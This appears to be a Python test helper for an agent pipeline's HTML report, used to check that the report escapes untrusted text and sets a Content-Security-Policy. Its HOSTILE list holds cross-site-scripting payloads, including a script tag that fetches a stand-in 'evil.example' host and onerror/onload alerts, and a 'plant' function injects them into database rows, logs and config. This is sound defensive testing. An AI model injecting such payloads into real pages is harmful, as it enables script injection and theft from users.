"""A report read back as a browser would: its elements, its data, its policy."""

import base64
import gzip
import json
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from tests.runs.sample import Sample

from agent_pipeline.cli.summary import reason_in_words
from agent_pipeline.report import Written, write_report
from agent_pipeline.runs.directory import RunDirectory
from agent_pipeline.telemetry import Redactor

HOSTILE = (
    "</script><script>fetch('https://evil.example')</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg/onload=alert(2)>{{ 7 * 7 }}{% raw %}",
    "<!-- \u2028 \u2029 ]]> &lt;b&gt; \\u003c",
)


@dataclass
class ReadPage(HTMLParser):
    """What a parser makes of a page."""

    html: str
    elements: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    texts: list[str] = field(default_factory=list)
    inlined: dict[str, list[str]] = field(default_factory=lambda: {"script": [], "style": []})
    data: dict[str, Any] = field(default_factory=dict)
    _open: str | None = None

    def __post_init__(self) -> None:
        super().__init__()
        self.feed(self.html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        is_data = dict(attrs).get("type") == "application/json"
        self._open = "data" if is_data else tag if tag in self.inlined else None

    def handle_endtag(self, tag: str) -> None:
        del tag
        self._open = None

    def handle_data(self, data: str) -> None:
        if self._open == "data":
            self.data = json.loads(data)
        elif self._open is not None:
            self.inlined[self._open].append(data)
        else:
            self.texts.append(data)

    @property
    def text(self) -> str:
        """All that is shown without a script, blanks as one."""
        return re.sub(r"\s+", " ", "".join(self.texts))

    @property
    def documents(self) -> dict[str, Any]:
        """The documents, unpacked."""
        unpacked: dict[str, Any] = json.loads(gzip.decompress(base64.b64decode(self.data["documents"])))
        return unpacked

    @property
    def policy(self) -> str:
        """Its Content-Security-Policy."""
        (found,) = [
            found["content"]
            for tag, found in self.elements
            if tag == "meta" and found.get("http-equiv") == "Content-Security-Policy"
        ]
        assert found is not None
        return found

    def story(self, document_id: str) -> dict[str, Any]:
        """The details of one document."""
        number = self.documents["columns"]["id"].index(document_id)
        story: dict[str, Any] = self.documents["stories"][str(number)]
        return story

    def column(self, name: str) -> list[Any]:
        """One column of the rows, words in the place of their numbers."""
        values: list[Any] = self.documents["columns"][name]
        words = {"outcome": "outcomes", "code": "codes", "stage": "stages"}.get(name)
        if words is None:
            return values
        return [None if value == -1 else self.data["names"][words][value] for value in values]


def written(
    run: RunDirectory,
    other: RunDirectory | None = None,
    *,
    output: Path | None = None,
    secrets: Sequence[str] = (),
) -> tuple[Written, ReadPage]:
    """Write a report and read it."""
    report = write_report(run, other, output=output, clean=Redactor(secrets), reason_in_words=reason_in_words)
    return report, ReadPage(report.path.read_text(encoding="utf-8"))


def read(sample: Sample, *, secrets: Sequence[str] = ()) -> ReadPage:
    """Write the report of a sample and read it."""
    return written(sample.run, secrets=secrets)[1]


def plant(sample: Sample, text: str) -> None:
    """Put a text wherever others may have put theirs: ids, errors, names, verdicts, files, events."""
    quoted = text.replace("'", "''")
    sample.sql(
        f"UPDATE documents SET error = '{quoted}', source = '{quoted}' WHERE document_id = '3'",  # noqa: S608
        f"UPDATE attempts SET error = '{quoted}' WHERE document_id = '3'",  # noqa: S608
        f"UPDATE attempts SET role = '{quoted}', model = '{quoted}' WHERE document_id = '1'",  # noqa: S608
        f"UPDATE documents SET failed_stage = '{quoted}', error_code = '{quoted}' WHERE document_id = '5'",  # noqa: S608
        f"UPDATE stage_results SET stage = '{quoted}' WHERE document_id = '1' AND stage = 'route'",  # noqa: S608
        f"UPDATE run SET reason = '{quoted}'",  # noqa: S608
        "PRAGMA foreign_keys = OFF",
        *(
            f"UPDATE {table} SET document_id = '{quoted}' WHERE document_id = '3'"  # noqa: S608
            for table in ("documents", "attempts", "stage_results")
        ),
    )
    verdict = {
        "document_id": text,
        "stage": "review",
        "cycle": 1,
        "approved": False,
        "issues": text,
        "suggestions": text,
    }
    event = {"at": "2026-11-20T12:00:00.000000Z", "event": "PIPELINE_STOPPING", "reason": text, "detail": text}
    for path, line in ((sample.run.reviews, verdict), (sample.run.events, event)):
        with path.open("a", encoding="utf-8") as file:
            file.write(json.dumps(line, separators=(",", ":")) + "\n")
    config = sample.run.path / "config.yaml"
    config.write_text(f"# {text}\n{config.read_text(encoding='utf-8')}", encoding="utf-8")


def multiply(sample: Sample, documents: int, attempts: int) -> None:
    """Let a run have had so many documents, with so many requests each, of scattered times."""
    sample.sql(
        "PRAGMA synchronous = OFF",
        f"""
        WITH RECURSIVE numbers (n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM numbers WHERE n < {documents})
        INSERT INTO documents (document_id, position, source, outcome, error_code, error, failed_stage, reworks,
            artifact_path, artifact_sha256, artifact_size_bytes, started_at, ended_at, session)
        SELECT 'letter-' || n, 1000 + n, 'https://archive.example.org/letters/' || n,
            iif(n % 50 = 0, 'failed', 'succeeded'), iif(n % 50 = 0, 'attempt_timeout', NULL),
            iif(n % 50 = 0, 'attempt 3 exceeded its 120 s timeout; document letter-' || n, NULL),
            iif(n % 50 = 0, 'transform', NULL), n % 3,
            iif(n % 50 = 0, NULL, '/somewhere/out/a-slug-of-words-' || n || '.md'),
            iif(n % 50 = 0, NULL, hex(randomblob(32))), 1234,
            strftime('%Y-%m-%dT%H:%M:%f', '2026-11-20', printf('+%f seconds', n * 0.1)) || '+00:00',
            strftime('%Y-%m-%dT%H:%M:%f', '2026-11-20', printf('+%f seconds', n * 0.1 + 5 + abs(random() % 9000) / 1e3))
                || '+00:00', 1
        FROM numbers
        """,  # noqa: S608 - a test's own numbers
        f"""
        WITH RECURSIVE
            numbers (n) AS (SELECT 0 UNION ALL SELECT n + 1 FROM numbers WHERE n < {documents * attempts - 1})
        INSERT INTO attempts (attempt_id, document_id, stage, cycle, role, provider, model, number, outcome,
            status_code, wait_seconds, wait_reason, latency_seconds, input_tokens, output_tokens, reserved_tokens,
            charged_tokens, cost_micro_usd, method, path, started_at, session, call_id)
        SELECT 'a' || n, 'letter-' || (n / {attempts} + 1), 'transform', 1, 'markdown_cleaner', 'openai',
            'gpt-5-mini', 1, 'succeeded', 200, abs(random() % 3000) / 1e3, 'admission', abs(random() % 4000) / 1e3,
            abs(random() % 4000),
            abs(random() % 1000), 9000, 3000, abs(random() % 9000), 'POST', '/v1/responses',
            strftime('%Y-%m-%dT%H:%M:%f', '2026-11-20', printf('+%f seconds', n * 0.1 / {attempts} + n % {attempts}))
                || '+00:00', 1, 'c' || n
        FROM numbers
        """,  # noqa: S608 - a test's own numbers
        "UPDATE sessions SET started_at = '2026-11-20T00:00:00+00:00'",
    )
